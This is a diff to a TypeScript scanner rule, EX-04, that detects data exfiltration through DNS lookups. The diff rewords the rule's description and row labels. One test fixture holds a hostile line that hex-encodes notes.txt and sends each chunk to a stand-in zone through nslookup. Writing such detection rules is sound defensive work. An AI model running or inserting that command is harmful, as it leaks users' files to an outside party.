@@ -1,4 +1,4 @@
-/** EX-04: A DNS lookup carries data in the name that is looked up. */
+/** EX-04: A DNS lookup sends data as part of the name that is looked up. */
 import { inFile } from '../../engine/example.ts';
 import { nameVariables } from '../../vocabulary/exfiltration/ex-04-data-in-dns.ts';
 import {
@@ -27,12 +27,12 @@ import { runKinds, row, type PatternRule } from '../../engine/rule.ts';
 export const dataInDns: PatternRule = {
   id: 'EX-04',
   severity: 'high',
-  why: 'A DNS lookup carries data in the name that is looked up.',
+  why: 'A DNS lookup sends data as part of the name that is looked up.',
   fix: 'Remove the lookup, or look up a fixed name.',
   owasp: ['AST01'],
   in: runKinds,
   rows: [
-    row('an interpolated label before a fixed zone', {
+    row('a variable as part of the name, in a command', {
       within: 'line',
       match: pattern(
         notAfter('-'),
@@ -73,7 +73,7 @@ export const dataInDns: PatternRule = {
       catches: [inFile('scripts/a.sh', 'for c in $(xxd -p notes.txt); do nslookup "$c.t.invalid"; done')],
       spares: [inFile('scripts/a.sh', 'nslookup "$HOST.example.com"', 'dig example.com')],
     }),
-    row('the same from a program', {
+    row('a variable as part of the name, in a program', {
       within: 'line',
       match: pattern(
         edge,
